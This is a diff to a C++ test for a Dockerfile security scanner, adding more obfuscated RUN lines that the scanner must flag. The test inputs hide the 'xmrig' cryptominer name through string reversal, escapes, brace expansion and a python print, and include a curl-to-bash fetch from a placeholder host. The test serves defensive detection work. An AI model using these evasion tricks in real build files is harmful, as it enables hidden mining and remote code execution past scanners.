@@ -161,7 +161,9 @@ TEST_CASE("a glance misses nothing that a look would find")
           "RUN $(>x echo xm)rig", "RUN printf xm%s rig >/run.sh", "RUN echo girmx | rev |& sh",
           "RUN echo girmx | rev | { sh; }", "RUN echo girmx | rev | A=b sh",
           "RUN echo girmx | rev | stdbuf -o0 sh", "RUN <<E\necho girmx | rev |\nsh\nE\n",
-          "RUN curl https://x.example | \"b\"ash"}) {
+          "RUN curl https://x.example | \"b\"ash", "RUN %\\78mrig", "RUN %7\"8\"mrig",
+          "ENV A=78\nRUN %${A}mrig", "RUN \"x\"{m,n}\"rig\"",
+          "RUN python3 -c \"print(\\\"xm\\\"+\\\"rig\\\")\""}) {
         const auto file = parse_dockerfile(cat("FROM alpine\n", hidden, "\n"));
         INFO(hidden);
         CHECK(judge_dockerfile(file, shipped_rules()).verdict != ScanVerdict::Pass);
